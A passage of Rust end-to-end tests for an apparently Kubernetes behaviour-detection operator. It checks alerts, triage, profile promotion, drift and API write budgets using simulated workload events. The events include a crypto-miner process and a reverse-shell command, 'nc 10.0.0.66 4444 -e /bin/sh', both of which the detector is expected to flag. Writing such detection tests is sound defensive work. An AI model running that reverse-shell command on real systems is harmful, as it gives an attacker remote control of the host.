        "jsonpath={.spec.source}/{.spec.workload.kind}/{.spec.workload.name} {.metadata.managedFields[*].manager}",
    ])?;
    r.check(
        "a learned profile of Deployment/web, written by kestrel-operator only",
        owner.starts_with("Learned/Deployment/web ")
            && owner
                .split_once(' ')
                .is_some_and(|(_, m)| m.split_whitespace().all(|m| m == "kestrel-operator")),
        owner,
    );

    // a miner in the first replica; the others keep their loop
    let victim = &pods[0];
    let t = Instant::now();
    for round in 0..3 {
        let mut batch: Vec<WorkloadEvent> = pods
            .iter()
            .flat_map(|p| benign(p, i + round, &mut clock))
            .collect();
        if round == 0 {
            batch.push(miner(victim, &mut clock));
        }
        agent
            .send(batch)
            .map_err(|_| anyhow::anyhow!("agent queue full"))?;
        std::thread::sleep(Duration::from_millis(250));
    }
    let mut alerts = Value::Null;
    while t.elapsed() < Duration::from_secs(30) {
        alerts = serde_json::from_str(&env.kubectl(&["get", "salert", "-n", NS, "-o", "json"])?)?;
        if alerts["items"].as_array().is_some_and(|a| !a.is_empty()) {
            break;
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    let items = alerts["items"].as_array().cloned().unwrap_or_default();
    let names_victim: Vec<&Value> = items
        .iter()
        .filter(|a| a["spec"]["evidence"]["pod"] == victim.name.as_str())
        .collect();
    let others: Vec<String> = items
        .iter()
        .filter(|a| a["spec"]["evidence"]["pod"] != victim.name.as_str())
        .map(|a| a["spec"]["evidence"]["pod"].to_string())
        .collect();
    let summary = names_victim
        .first()
        .map(|a| {
            format!(
                "{} {} score {} in {:.1}s: {}",
                a["metadata"]["name"].as_str().unwrap_or_default(),
                a["spec"]["severity"].as_str().unwrap_or_default(),
                a["spec"]["score"],
                t.elapsed().as_secs_f64(),
                a["spec"]["title"].as_str().unwrap_or_default()
            )
        })
        .unwrap_or_else(|| format!("{} alerts, none for {}", items.len(), victim.name));
    r.check(
        "the miner makes one SecurityAlert naming its pod",
        names_victim.len() == 1
            && names_victim[0]["spec"]["evidence"]["exe"]
                .as_str()
                .is_some_and(|e| e.ends_with("kworker")),
        summary,
    );
    if let Some(a) = names_victim.first() {
        let severity = a["spec"]["severity"].as_str().unwrap_or_default();
        let cluster = a["spec"]["breakdown"]["cluster"]["reason"]
            .as_str()
            .unwrap_or_default();
        r.check(
            "with no LLM, the lone replica's miner is High or Critical (1 of 3 pods)",
            matches!(severity, "High" | "Critical") && cluster.starts_with("1 of 3 pods"),
            format!("{severity}; cluster: {cluster}"),
        );
    }
    r.check(
        "the other replicas raise nothing",
        others.is_empty(),
        if others.is_empty() {
            "no other alert".to_string()
        } else {
            others.join(", ")
        },
    );
    if let Some(a) = names_victim.first() {
        let name = a["metadata"]["name"].as_str().unwrap_or_default();
        let describe = env.kubectl(&["describe", "salert", name, "-n", NS])?;
        println!("--- kubectl describe salert {name} ---");
        for l in describe.lines().take(60) {
            println!("   {l}");
        }
        r.check(
            "kubectl describe salert names the pod, the process and the advice",
            describe.contains(&victim.name)
                && describe.contains("stratum+tcp")
                && describe.contains("Recommendation"),
            format!("{} lines", describe.lines().count()),
        );
    }
    for (what, args, want) in [
        (
            "bp",
            vec!["get", "bp", "-n", NS],
            vec!["WORKLOAD", "MODE", "PHASE", "EXEMPLARS", "CONVERGED"],
        ),
        (
            "salert",
            vec!["get", "salert", "-n", NS],
            vec!["SEVERITY", "SCORE", "WORKLOAD", "POD", "COUNT", "STATE"],
        ),
        (
            "kestrel",
            vec!["get", "kestrel", "-n", NS],
            vec!["behaviorprofile.kestrel.dev/", "securityalert.kestrel.dev/"],
        ),
    ] {
        let out = env.kubectl(&args)?;
        println!("--- kubectl {} ---", args.join(" "));
        for l in out.lines() {
            println!("   {l}");
        }
        r.check(
            &format!("kubectl get {what} shows its columns"),
            want.iter().all(|w| out.contains(w)),
            out.lines().next().unwrap_or_default().to_string(),
        );
    }
    // core Events: on the pod for the alert, on the profile for its phases
    let pod_events = env.kubectl(&[
        "get",
        "events",
        "-n",
        NS,
        "--field-selector",
        &format!("involvedObject.name={}", victim.name),
        "-o",
        "jsonpath={range .items[*]}{.type} {.reason}: {.message}{\"\\n\"}{end}",
    ])?;
    r.check(
        "an Event on the pod for the High alert",
        pod_events
            .lines()
            .any(|l| l.starts_with("Warning SecurityAlert: ")),
        pod_events
            .lines()
            .find(|l| l.starts_with("Warning SecurityAlert: "))
            .unwrap_or("no SecurityAlert event")
            .to_string(),
    );
    let profile_events = env.kubectl(&[
        "get",
        "events",
        "-n",
        NS,
        "--field-selector",
        "involvedObject.kind=BehaviorProfile",
        "-o",
        "jsonpath={range .items[*]}{.reason} {end}",
    ])?;
    r.check(
        "Events on the profile for its phase changes",
        profile_events.contains("Learning") && profile_events.contains("Detecting"),
        profile_events.trim().to_string(),
    );

    // the same attack repeated 1,000 times: one object, its count updated
    // at most once per 30 s
    let Some(name) = names_victim
        .first()
        .and_then(|a| a["metadata"]["name"].as_str())
        .map(String::from)
    else {
        runtime.block_on(agent.close(Duration::from_secs(5)));
        return Ok(None);
    };
    let first_count = names_victim[0]["status"]["count"].as_u64().unwrap_or(0);
    let watch_out = std::env::temp_dir().join(format!("kestrel-e2e-watch-{}", std::process::id()));
    let mut watch = Command::new(env.bin.join("kubectl"))
        .args(["get", "salert", &name, "-n", NS, "--watch", "-o"])
        .arg("jsonpath={.metadata.resourceVersion} {.status.count}{\"\\n\"}")
        .env("KUBECONFIG", &env.kubeconfig)
        .stdout(std::fs::File::create(&watch_out)?)
        .stderr(Stdio::null())
        .spawn()?;
    std::thread::sleep(Duration::from_secs(1));
    let t = Instant::now();
    let repeats = 1_000u64;
    for second in 0..40u64 {
        let mut batch: Vec<WorkloadEvent> = pods
            .iter()
            .flat_map(|p| benign(p, i + 10 + second, &mut clock))
            .collect();
        batch.extend((0..repeats / 40).map(|_| miner(victim, &mut clock)));
        agent
            .send(batch)
            .map_err(|_| anyhow::anyhow!("agent queue full"))?;
        std::thread::sleep(Duration::from_secs(1));
    }
    std::thread::sleep(Duration::from_secs(2));
    let seconds = t.elapsed().as_secs_f64();
    let _ = watch.kill();
    let _ = watch.wait();
    let seen = std::fs::read_to_string(&watch_out).unwrap_or_default();
    let _ = std::fs::remove_file(&watch_out);
    // the first line is the object as it was when the watch began
    let updates: Vec<&str> = seen.lines().skip(1).collect();
    let bound = (seconds / 30.0).ceil() as usize + 1;
    let alerts: Value =
        serde_json::from_str(&env.kubectl(&["get", "salert", "-n", NS, "-o", "json"])?)?;
    let objects = alerts["items"].as_array().map_or(0, Vec::len);
    r.check(
        &format!("{repeats} repeats: one object, at most one write per 30 s"),
        objects == 1 && updates.len() <= bound && !updates.is_empty(),
        format!(
            "{objects} alert object(s); {} update(s) in {seconds:.0}s (bound {bound}): {}",
            updates.len(),
            updates.join(", ")
        ),
    );
    triage(env, &agent, pods, &mut clock, i + 55, &name, r)?;
    promotion(env, &agent, pods, &mut clock, i + 60, r)?;
    runtime.block_on(agent.close(Duration::from_secs(5)));
    Ok(Some((name, first_count + repeats)))
}

/// Namespace of the load run.
const LOAD_NS: &str = "load";

/// Acceptance 6 (`make bench-k8s`, not part of `make test`): `n` bare pods,
/// each its own workload, learning at once against the real API server.
/// The operator runs with a write budget of 20 writes/s (burst 40);
/// its `/metrics` must show the writes within that budget and the rest
/// waiting. One more workload is driven past the 256 KiB size cap and must
/// become `SizeLimited` on the API server. The operator's RSS with the `n`
/// profiles in memory (the embedding model included) is printed for
/// `docs/BENCHMARKS.md`.
fn load(env: &TestEnv, operator: &Path, work: &Path, n: usize, r: &mut Report) -> Result<()> {
    use k8s_openapi::api::core::v1::Pod;
    use kube::api::{Api, Patch, PatchParams, PostParams};
    println!("== {n} workloads learning at once ==");
    env.kubectl(&["create", "namespace", LOAD_NS])?;
    env.kubectl_stdin(
        &["apply", "-f", "-"],
        Some(&json!({"apiVersion": "v1", "kind": "Node", "metadata": {"name": NODE}}).to_string()),
    )?;
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()?;
    // the pods and the kubelet's status write, through the API (bare pods:
    // each is its own workload, `Pod/w<i>`); one more, `big`, for the size cap
    let t = Instant::now();
    let names: Vec<String> = (0..n)
        .map(|i| format!("w{i}"))
        .chain(["big".to_string()])
        .collect();
    let kubeconfig = env.kubeconfig.clone();
    let pods: Vec<PodRun> = runtime.block_on(async {
        let kc = kube::config::Kubeconfig::read_from(&kubeconfig)?;
        let cfg = kube::Config::from_custom_kubeconfig(kc, &Default::default()).await?;
        let api: Api<Pod> = Api::namespaced(kube::Client::try_from(cfg)?, LOAD_NS);
        let mut tasks = tokio::task::JoinSet::new();
        for (w, chunk) in names.chunks(names.len().div_ceil(16)).enumerate() {
            let (api, chunk) = (api.clone(), chunk.to_vec());
            tasks.spawn(async move {
                let mut out = Vec::new();
                for (j, name) in chunk.into_iter().enumerate() {
                    let i = w * 10_000 + j;
                    let pod: Pod = serde_json::from_value(json!({
                        "apiVersion": "v1", "kind": "Pod",
                        "metadata": {"name": name, "labels": {"app": name}},
                        "spec": {"nodeName": NODE, "containers": [{"name": "app", "image": "busybox:1.36"}]}
                    }))?;
                    api.create(&PostParams::default(), &pod).await?;
                    let container_id = format!("{:064x}", 0x10ad_0000_0000_u64 + i as u64 * 0x1_0001);
                    let status = json!({"status": {
                        "phase": "Running",
                        "conditions": [{"type": "Ready", "status": "True"}],
                        "containerStatuses": [{
                            "name": "app", "image": "docker.io/library/busybox:1.36", "imageID": "",
                            "ready": true, "restartCount": 0, "started": true,
                            "containerID": format!("containerd://{container_id}"),
                            "state": {"running": {"startedAt": "2026-12-06T00:00:00Z"}}
                        }]
                    }});
                    api.patch_status(&name, &PatchParams::default(), &Patch::Merge(&status))
                        .await?;
                    out.push(PodRun {
                        name,
                        container_id,
                        main_pid: 100_000 + i as u32 * 100,
                        cgroup: 50_000 + i as u64,
                    });
                }
                anyhow::Ok(out)
            });
        }
        let mut all = Vec::new();
        while let Some(done) = tasks.join_next().await {
            all.extend(done??);
        }
        anyhow::Ok(all)
    })?;
    println!(
        "   {} pods created and running in {:.0}s",
        pods.len(),
        t.elapsed().as_secs_f64()
    );
    let config = work.join("config-load.yaml");
    // learning stays on for the whole run (the point is n profiles growing)
    std::fs::write(
        &config,
        "learning:\n  window: 10s\n  minLearningTime: 600s\n  cleanWindows: 1\n  maxNewPerWindow: 0\n",
    )?;
    let mut op = Operator::start_with(
        env,
        operator,
        work,
        "load",
        &config,
        // a stated budget (4 times the default); profiles flush every 2 s
        // (the harness's setting), so far more writes are wanted than the
        // budget allows: n first writes alone take n/20 s
        &["--api-writes-per-sec", "20", "--api-burst", "40"],
    )?;
    let addr = op
        .wait_for("listening", Duration::from_secs(120))?
        .as_str()
        .context("address")?
        .to_string();
    let agent = connect_agent(&runtime, &work.join("tls"), &addr)?;
    let mut clock = Clock(3_000_000_000_000);
    // (the pods come back in the order their tasks finished)
    let big = pods.iter().find(|p| p.name == "big").context("pod big")?;
    let small: Vec<&PodRun> = pods.iter().filter(|p| p.name != "big").collect();
    // the size cap: 3,000 programs below /usr/bin (never collapsed), each
    // with a long argument line, in one workload
    let pad = "x".repeat(160);
    let mut heavy: Vec<WorkloadEvent> = (0..3_000)
        .map(|k| {
            let exe = format!("/usr/bin/tool-{k:04}");
            let arg = format!("--job={k}-{pad}");
            exec(big, &mut clock, "sh", &exe, &[&exe, &arg])
        })
        .collect();
    let t = Instant::now();
    let seconds = 120u64;
    let writes_at_start = op
        .metric("kestrel_operator_api_writes_total")
        .unwrap_or(0.0);
    for round in 0..seconds / 2 {
        let mut batch: Vec<WorkloadEvent> = small
            .iter()
            .flat_map(|p| benign(p, round, &mut clock))
            .collect();
        if round < 6 {
            batch.extend(heavy.drain(..500.min(heavy.len())));
        }
        for part in batch.chunks(2_000) {
            let mut tries = 0;
            while agent.send(part.to_vec()).is_err() {
                tries += 1;
                if tries > 100 {
                    bail!("the agent's queue stayed full for 10 s");
                }
                std::thread::sleep(Duration::from_millis(100));
            }
        }
        std::thread::sleep(Duration::from_secs(2).saturating_sub(Duration::from_millis(10)));
    }
    let elapsed = t.elapsed().as_secs_f64();
    let m = |name: &str| op.metric(name).unwrap_or(-1.0);
    let writes = m("kestrel_operator_api_writes_total") - writes_at_start;
    let pending = m("kestrel_operator_api_pending");
    let throttled = m("kestrel_operator_api_throttled_rounds_total");
    let profiles = m("kestrel_operator_profiles{phase=\"Learning\"}")
        + m("kestrel_operator_profiles{phase=\"SizeLimited\"}").max(0.0);
    let handled = m("kestrel_operator_events_total");
    let pid = op.child.id();
    let status = std::fs::read_to_string(format!("/proc/{pid}/status"))?;
    let field = |k: &str| {
        status
            .lines()
            .find(|l| l.starts_with(k))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|v| v.parse::<f64>().ok())
            .map_or(-1.0, |kb| kb / 1024.0)
    };
    let (rss, hwm) = (field("VmRSS:"), field("VmHWM:"));
    // the budget over the measured time, its burst, and the seconds between
    // the operator's start and the first measurement
    let bound = 20.0 * (elapsed + 3.0) + 40.0;
    r.check(
        &format!("{n} workloads: API writes stay within the budget (20/s, burst 40)"),
        writes > 0.0 && writes <= bound && throttled > 0.0,
        format!(
            "{writes:.0} writes in {elapsed:.0}s (bound {bound:.0}), {pending:.0} objects waiting, \
             {throttled:.0} throttled rounds, {profiles:.0} profiles, {handled:.0} events handled"
        ),
    );
    r.check(
        &format!("{n} workloads: operator RSS (goal ≤ 512 MiB, model included)"),
        rss > 0.0 && hwm <= 512.0,
        format!("VmRSS {rss:.0} MiB, VmHWM {hwm:.0} MiB with {profiles:.0} profiles in memory"),
    );
    // the big profile's phase change goes first: SizeLimited on the server
    let size = poll(Duration::from_secs(120), || {
        let out = env
            .kubectl(&[
                "get",
                "bp",
                "pod-big",
                "-n",
                LOAD_NS,
                "-o",
                "jsonpath={.status.phase} {.status.conditions[?(@.type==\"SizeLimited\")].message}",
            ])
            .ok()?;
        out.starts_with("SizeLimited").then_some(out)
    });
    r.check(
        "a profile driven past the size cap becomes SizeLimited on the API server",
        size.is_some(),
        size.unwrap_or_else(|| {
            env.kubectl(&[
                "get",
                "bp",
                "pod-big",
                "-n",
                LOAD_NS,
                "-o",
                "jsonpath={.status.phase}",
            ])
            .unwrap_or_else(|e| e.to_string())
        }),
    );
    runtime.block_on(agent.close(Duration::from_secs(5)));
    // SAFETY: kill with a pid of a child we own.
    unsafe { libc::kill(op.child.id() as i32, libc::SIGKILL) };
    let _ = op.child.wait();
    Ok(())
}

/// Triage through the `kestrel.dev/triage` annotation: the miner's alert
/// acknowledged; a vendor agent run from `/tmp` in one replica alerts and
/// is marked `false-positive`: the operator resolves it, teaches it to the
/// learned profile (the `Triaged` condition says so), and its repeat no
/// longer alerts.
fn triage(
    env: &TestEnv,
    agent: &AgentClient,
    pods: &[PodRun],
    clock: &mut Clock,
    i: u64,
    miner_alert: &str,
    r: &mut Report,
) -> Result<()> {
    let triaged = |name: &str| -> Option<(String, String, String, u64)> {
        let v: Value = serde_json::from_str(
            &env.kubectl(&["get", "salert", name, "-n", NS, "-o", "json"])
                .ok()?,
        )
        .ok()?;
        let cond = v["status"]["conditions"]
            .as_array()?
            .iter()
            .find(|c| c["type"] == "Triaged")?
            .clone();
        Some((
            v["status"]["state"].as_str()?.to_string(),
            format!("{} {}", cond["status"].as_str()?, cond["reason"].as_str()?),
            cond["message"].as_str()?.to_string(),
            v["status"]["count"].as_u64().unwrap_or(0),
        ))
    };
    env.kubectl(&[
        "annotate",
        "salert",
        miner_alert,
        "-n",
        NS,
        "kestrel.dev/triage=acknowledged",
    ])?;
    let ack = poll(Duration::from_secs(15), || {
        triaged(miner_alert).filter(|t| t.0 == "Acknowledged")
    });
    r.check(
        "triage: kestrel.dev/triage=acknowledged sets status.state and a Triaged condition",
        ack.as_ref().is_some_and(|t| t.1 == "True Acknowledged"),
        format!("{:?}", ack.or_else(|| triaged(miner_alert))),
    );

    // a vendor's agent, installed in /tmp, in one replica: it alerts
    let vendor = |clock: &mut Clock| {
        exec(
            &pods[2],
            clock,
            "sh",
            "/tmp/vendor-agent",
            &["/tmp/vendor-agent", "--report", "--interval=60"],
        )
    };
    let find_vendor = || -> Option<String> {
        let v: Value = serde_json::from_str(
            &env.kubectl(&["get", "salert", "-n", NS, "-o", "json"])
                .ok()?,
        )
        .ok()?;
        v["items"]
            .as_array()?
            .iter()
            .find(|a| a["spec"]["evidence"]["exe"] == "/tmp/vendor-agent")
            .and_then(|a| a["metadata"]["name"].as_str())
            .map(String::from)
    };
    let mut batch: Vec<WorkloadEvent> = pods.iter().flat_map(|p| benign(p, i, clock)).collect();
    batch.push(vendor(clock));
    agent
        .send(batch)
        .map_err(|_| anyhow::anyhow!("agent queue full"))?;
    let Some(name) = poll(Duration::from_secs(15), find_vendor) else {
        r.check(
            "triage: the vendor agent in /tmp alerts",
            false,
            "no alert for /tmp/vendor-agent",
        );
        return Ok(());
    };
    env.kubectl(&[
        "annotate",
        "salert",
        &name,
        "-n",
        NS,
        "kestrel.dev/triage=false-positive",
    ])?;
    let fp = poll(Duration::from_secs(15), || {
        triaged(&name).filter(|t| t.0 == "Resolved")
    });
    r.check(
        "triage: false-positive resolves the alert and teaches it to the learned profile",
        fp.as_ref().is_some_and(|t| {
            t.1 == "True FalsePositive" && t.2.contains("taught to the profile of")
        }),
        format!("{name}: {:?}", fp.clone().or_else(|| triaged(&name))),
    );
    // the same behaviour again, twice: no new alert, the resolved one stays
    // resolved with its count
    for _ in 0..2 {
        let mut batch: Vec<WorkloadEvent> =
            pods.iter().flat_map(|p| benign(p, i + 1, clock)).collect();
        batch.push(vendor(clock));
        agent
            .send(batch)
            .map_err(|_| anyhow::anyhow!("agent queue full"))?;
        std::thread::sleep(Duration::from_secs(1));
    }
    std::thread::sleep(Duration::from_secs(2));
    let after = triaged(&name);
    let count_before = fp.as_ref().map(|t| t.3);
    let vendors =
        serde_json::from_str::<Value>(&env.kubectl(&["get", "salert", "-n", NS, "-o", "json"])?)?
            ["items"]
            .as_array()
            .map_or(0, |a| {
                a.iter()
                    .filter(|x| x["spec"]["evidence"]["exe"] == "/tmp/vendor-agent")
                    .count()
            });
    r.check(
        "triage: once taught, its repeats raise nothing",
        vendors == 1
            && after
                .as_ref()
                .is_some_and(|t| t.0 == "Resolved" && Some(t.3) == count_before),
        format!("{vendors} vendor alert(s); now {after:?}"),
    );
    Ok(())
}

/// Acceptance 3: export the learned profile, delete it, re-apply it as
/// `source: Promoted, mode: Detect`; the operator applies it at once (a new
/// anomaly alerts), writes only its status, and never its spec.
fn promotion(
    env: &TestEnv,
    agent: &AgentClient,
    pods: &[PodRun],
    clock: &mut Clock,
    i: u64,
    r: &mut Report,
) -> Result<()> {
    let profile = "deployment-web";
    let learned: Value =
        serde_json::from_str(&env.kubectl(&["get", "bp", profile, "-n", NS, "-o", "json"])?)?;
    // the user's commands: `kestrel profile export`, reviewed with
    // `kestrel profile diff` against the live object
    let kestrel = |args: &[&str]| -> Result<(Option<i32>, String)> {
        let out = Command::new(kestrel_e2e::sibling_binary("kestrel")?)
            .args(args)
            .env("KUBECONFIG", &env.kubeconfig)
            .output()?;
        if !out.stderr.is_empty() {
            println!(
                "  kestrel {}: {}",
                args.join(" "),
                String::from_utf8_lossy(&out.stderr).trim()
            );
        }
        Ok((
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
        ))
    };
    let (code, exported) = kestrel(&["profile", "export", profile, "-n", NS, "-o", "json"])?;
    let promoted: Value = serde_json::from_str(&exported)
        .with_context(|| format!("kestrel profile export (exit {code:?}): {exported:?}"))?;
    let file = std::env::temp_dir().join(format!("kestrel-e2e-export-{}.json", std::process::id()));
    std::fs::write(&file, &exported)?;
    let (diff_code, diff_out) = kestrel(&[
        "profile",
        "diff",
        file.to_str().unwrap_or_default(),
        profile,
        "-n",
        NS,
    ])?;
    // the same behaviour, read as the profile type (the API server's JSON
    // and the command's may spell numbers and absent fields differently)
    let body = |v: &Value| serde_json::from_value::<kestrel_api::ProfileBody>(v.clone()).ok();
    let same_body = body(&promoted["spec"]["baseline"]).is_some()
        && body(&promoted["spec"]["baseline"]) == body(&learned["status"]["learned"]);
    r.check(
        "kestrel profile export: a promoted profile for Git (Promoted/Detect, the learned behaviour as spec.baseline, no status or cluster fields); diff against the live object: same",
        code == Some(0)
            && promoted["spec"]["source"] == "Promoted"
            && promoted["spec"]["mode"] == "Detect"
            && same_body
            && promoted.get("status").is_none()
            && promoted["metadata"].get("uid").is_none()
            && promoted["metadata"].get("resourceVersion").is_none()
            && diff_code == Some(0)
            && diff_out.contains("same behaviour"),
        format!(
            "export exit {code:?}, metadata {}, baseline = learned: {same_body}; diff exit {diff_code:?}: {}",
            promoted["metadata"],
            diff_out.trim().replace('\n', " | ")
        ),
    );
    env.kubectl(&["delete", "bp", profile, "-n", NS])?;
    env.kubectl_stdin(&["create", "-f", "-"], Some(&promoted.to_string()))?;
    let applied_spec = serde_json::from_str::<Value>(
        &env.kubectl(&["get", "bp", profile, "-n", NS, "-o", "json"])?,
    )?["spec"]
        .clone();
    // the promoted profile in force: its status written by the operator
    let t = Instant::now();
    let mut state = String::new();
    while t.elapsed() < Duration::from_secs(20) {
        let batch: Vec<WorkloadEvent> = pods.iter().flat_map(|p| benign(p, i, clock)).collect();
        agent
            .send(batch)
            .map_err(|_| anyhow::anyhow!("agent queue full"))?;
        state = env.kubectl(&[
            "get",
            "bp",
            profile,
            "-n",
            NS,
            "-o",
            "jsonpath={.spec.source} {.status.phase}",
        ])?;
        if state == "Promoted Detecting" {
            break;
        }
        std::thread::sleep(Duration::from_millis(500));
    }
    r.check(
        "promotion: the re-applied Promoted/Detect profile is in force",
        state == "Promoted Detecting",
        format!("{state} after {:.1}s", t.elapsed().as_secs_f64()),
    );
    // detection at once: a reverse shell in the second replica
    let target = &pods[1];
    let t = Instant::now();
    agent
        .send(vec![exec(
            target,
            clock,
            "sh",
            "/bin/nc",
            &["nc", "10.0.0.66", "4444", "-e", "/bin/sh"],
        )])
        .map_err(|_| anyhow::anyhow!("agent queue full"))?;
    let mut found = String::new();
    while t.elapsed() < Duration::from_secs(20) && found.is_empty() {
        std::thread::sleep(Duration::from_millis(500));
        let v: Value =
            serde_json::from_str(&env.kubectl(&["get", "salert", "-n", NS, "-o", "json"])?)?;
        if let Some(a) = v["items"].as_array().into_iter().flatten().find(|a| {
            a["spec"]["evidence"]["pod"] == target.name.as_str()
                && a["spec"]["evidence"]["exe"]
                    .as_str()
                    .is_some_and(|e| e.ends_with("nc"))
        }) {
            found = format!(
                "{} {} {:.1}: {}",
                a["metadata"]["name"].as_str().unwrap_or_default(),
                a["spec"]["severity"].as_str().unwrap_or_default(),
                a["spec"]["score"].as_f64().unwrap_or_default(),
                a["spec"]["title"].as_str().unwrap_or_default()
            );
        }
    }
    r.check(
        "promotion: detection works at once (a reverse shell in another replica alerts)",
        !found.is_empty(),
        if found.is_empty() {
            "no alert".into()
        } else {
            found
        },
    );
    // the operator never changes the spec: the generation stays that of
    // the person's create, the spec is as applied, and where the API server
    // tracks field owners, kestrel-operator owns status fields only
    // (kubectl hides managedFields from -o json unless asked)
    let now: Value = serde_json::from_str(&env.kubectl(&[
        "get",
        "bp",
        profile,
        "-n",
        NS,
        "-o",
        "json",
        "--show-managed-fields",
    ])?)?;
    let managed = now["metadata"]["managedFields"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    let owners: Vec<String> = managed
        .iter()
        .map(|m| {
            let fields: Vec<String> = m["fieldsV1"]
                .as_object()
                .map(|o| o.keys().cloned().collect())
                .unwrap_or_default();
            format!(
                "{}: {}",
                m["manager"].as_str().unwrap_or("?"),
                fields.join(",")
            )
        })
        .collect();
    let ours: Vec<&Value> = managed
        .iter()
        .filter(|m| m["manager"] == "kestrel-operator")
        .collect();
    let ours_only_status = !ours.is_empty()
        && ours.iter().all(|m| {
            m["fieldsV1"]
                .as_object()
                .is_some_and(|o| o.keys().all(|k| k == "f:status"))
        });
    let generation = now["metadata"]["generation"].as_i64();
    r.check(
        "promotion: the operator never changes the spec (generation 1, spec as applied, managedFields: kestrel-operator owns status only)",
        generation == Some(1) && now["spec"] == applied_spec && ours_only_status,
        format!(
            "generation {generation:?}; spec unchanged: {}; managedFields: [{}]",
            now["spec"] == applied_spec,
            owners.join("; ")
        ),
    );
    // drift: the learned shadow saw the reverse shell, which Git's baseline
    // lacks; the promoted object says so (its flush follows the cadence)
    let drift = poll(Duration::from_secs(20), || {
        let v: Value = serde_json::from_str(
            &env.kubectl(&["get", "bp", profile, "-n", NS, "-o", "json"])
                .ok()?,
        )
        .ok()?;
        let c = v["status"]["conditions"]
            .as_array()?
            .iter()
            .find(|c| c["type"] == "Drift")?
            .clone();
        let msg = c["message"].as_str()?.to_string();
        (c["status"] == "True" && msg.contains("/bin/nc")).then(|| {
            let shadow_has_nc = v["status"]["learned"]["processes"]
                .as_array()
                .is_some_and(|ps| ps.iter().any(|p| p["exe"] == "/bin/nc"));
            (msg, shadow_has_nc, v["spec"] == applied_spec)
        })
    });
    let (drift_code, drift_out) = kestrel(&["profile", "drift", profile, "-n", NS])?;
    let _ = std::fs::remove_file(&file);
    r.check(
        "promotion: drift is reported (Drift condition naming the reverse shell; the learned shadow holds it; the spec untouched; kestrel profile drift lists it)",
        drift.as_ref().is_some_and(|d| d.1 && d.2)
            && drift_code == Some(1)
            && drift_out.lines().any(|l| l.starts_with("+ ") && l.contains("→ /bin/nc")),
        format!(
            "{drift:?}; kestrel profile drift exit {drift_code:?}: {}",
            drift_out
                .lines()
                .filter(|l| l.starts_with('+') || l.starts_with("Drift"))
                .collect::<Vec<_>>()
                .join(" | ")
        ),
    );
    baseline_invalid(env, r)
}

/// Bad input: a promoted profile whose baseline the schema accepts but the
/// engine cannot load (a file access that is not a word the trie knows) is reported in
/// its status as `BaselineInvalid`, naming the field, and never deleted.
fn baseline_invalid(env: &TestEnv, r: &mut Report) -> Result<()> {
    let broken = json!({
        "apiVersion": "kestrel.dev/v1alpha1", "kind": "BehaviorProfile",
        "metadata": {"name": "deployment-broken", "namespace": NS},
        "spec": {
            "source": "Promoted", "mode": "Detect",
            "workload": {"kind": "Deployment", "name": "broken"},
            "baseline": {"files": [
                {"image": "busybox:1.36", "process": "sh", "access": "reed", "paths": ["/var/log/**"]}
            ]}
        }
    });
    env.kubectl_stdin(&["create", "-f", "-"], Some(&broken.to_string()))?;
    let t = Instant::now();
    let mut message = String::new();
    while t.elapsed() < Duration::from_secs(20) && message.is_empty() {
        std::thread::sleep(Duration::from_millis(500));
        message = env.kubectl(&[
            "get",
            "bp",
            "deployment-broken",
            "-n",
            NS,
            "-o",
            "jsonpath={.status.conditions[?(@.type==\"BaselineInvalid\")].message}",
        ])?;
    }
    let still = env
        .run_kubectl(
            &["get", "bp", "deployment-broken", "-n", NS, "-o", "name"],
            None,
        )?
        .0;
    r.check(
        "a promoted profile that does not load: BaselineInvalid names the field, the object stays",
        message.contains("spec.baseline.files[0].access") && still,
        format!("{message} (object kept: {still})"),
    );
    Ok(())
}

/// Waits for `n` pods of the Deployment, then does the kubelet's part for
/// each: bind it to the test node, report its container running.
/// A Deployment `app` of `replicas` running the busybox web loop, its
/// pods bound and running (the kubelet's writes); `first` numbers their
/// container ids, pids and cgroups apart from other Deployments'.
fn deploy(env: &TestEnv, app: &str, replicas: usize, first: usize) -> Result<Vec<PodRun>> {
    let deployment = json!({
        "apiVersion": "apps/v1", "kind": "Deployment",
        "metadata": {"name": app, "namespace": NS},
        "spec": {
            "replicas": replicas,
            "selector": {"matchLabels": {"app": app}},
            "template": {
                "metadata": {"labels": {"app": app}},
                "spec": {"containers": [{
                    "name": "app", "image": "busybox:1.36",
                    "command": ["sh", "-c", "while true; do date; wget -q -O- http://backend:8080/api; sleep 1; done"]
                }]}
            }
        }
    });
    env.kubectl_stdin(&["apply", "-f", "-"], Some(&deployment.to_string()))?;
    run_pods(env, app, replicas, first)
}

fn run_pods(env: &TestEnv, app: &str, n: usize, first: usize) -> Result<Vec<PodRun>> {
    let t = Instant::now();
    let selector = format!("app={app}");
    let items = loop {
        let v: Value = serde_json::from_str(
            &env.kubectl(&["get", "pods", "-n", NS, "-l", &selector, "-o", "json"])?,
        )?;
        let items = v["items"].as_array().cloned().unwrap_or_default();
        if items.len() >= n {
            break items;
        }
        if t.elapsed() > Duration::from_secs(60) {
            bail!("{} of {n} pods after 60 s", items.len());
        }
        std::thread::sleep(Duration::from_millis(500));
    };
    let mut out = Vec::new();
    for (i, pod) in items.iter().take(n).enumerate() {
        let i = i + first;
        let name = pod["metadata"]["name"]
            .as_str()
            .context("pod name")?
            .to_string();
        if pod["spec"]["nodeName"].as_str() != Some(NODE) {
            let binding = json!({
                "apiVersion": "v1", "kind": "Binding",
                "metadata": {"name": name},
                "target": {"apiVersion": "v1", "kind": "Node", "name": NODE}
            });
            env.kubectl_stdin(
                &[
                    "create",
                    "--raw",
                    &format!("/api/v1/namespaces/{NS}/pods/{name}/binding"),
                    "-f",
                    "-",
                ],
                Some(&binding.to_string()),
            )?;
        }
        let mut current: Value =
            serde_json::from_str(&env.kubectl(&["get", "pod", &name, "-n", NS, "-o", "json"])?)?;
        let container_id = format!("{:064x}", 0xe2e0_0000_0000_u64 + i as u64 * 0x1_0001);
        let now = "2026-12-06T00:00:00Z";
        current["status"] = json!({
            "phase": "Running",
            "conditions": [{"type": "Ready", "status": "True"}],
            "containerStatuses": [{
                "name": "app", "image": "docker.io/library/busybox:1.36", "imageID": "",
                "ready": true, "restartCount": 0, "started": true,
                "containerID": format!("containerd://{container_id}"),
                "state": {"running": {"startedAt": now}}
            }]
        });
        env.kubectl_stdin(
            &[
                "replace",
                "--raw",
